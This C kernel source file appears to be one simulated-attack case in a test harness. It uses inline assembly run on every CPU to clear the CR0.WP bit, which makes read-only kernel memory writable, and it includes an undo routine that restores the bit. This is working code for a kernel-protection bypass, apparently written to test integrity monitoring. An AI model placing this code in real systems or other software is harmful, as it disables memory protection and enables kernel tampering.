// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* CR0.WP of each CPU is off and stays so: read-only pages can be written by anybody in the kernel.
 */
#include "attack.h"

static void set(void *on)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static int attack(void)
{
	on_each_cpu(set, NULL, 1);
	return 0;
}

static void undo(void)
{
	on_each_cpu(set, (void *)1, 1);
}

ATTACK("CR0.WP off on all CPUs");
